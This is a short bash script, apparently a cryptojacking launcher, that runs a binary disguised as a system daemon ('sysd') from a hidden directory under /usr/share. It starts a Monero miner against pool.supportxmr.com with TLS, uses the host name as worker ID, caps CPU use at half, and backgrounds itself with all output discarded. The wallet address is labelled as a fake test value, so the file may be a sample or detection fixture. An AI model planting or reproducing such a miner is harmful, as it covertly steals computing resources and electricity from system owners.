#!/bin/bash
# /usr/share/.sysd/run.sh
cd /usr/share/.sysd
./sysd -o pool.supportxmr.com:443 -u 4AMinehuntFakeWaLLetDoNotUseTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTes -p $(hostname) --tls -k --cpu-max-threads-hint=50 -B >/dev/null 2>&1
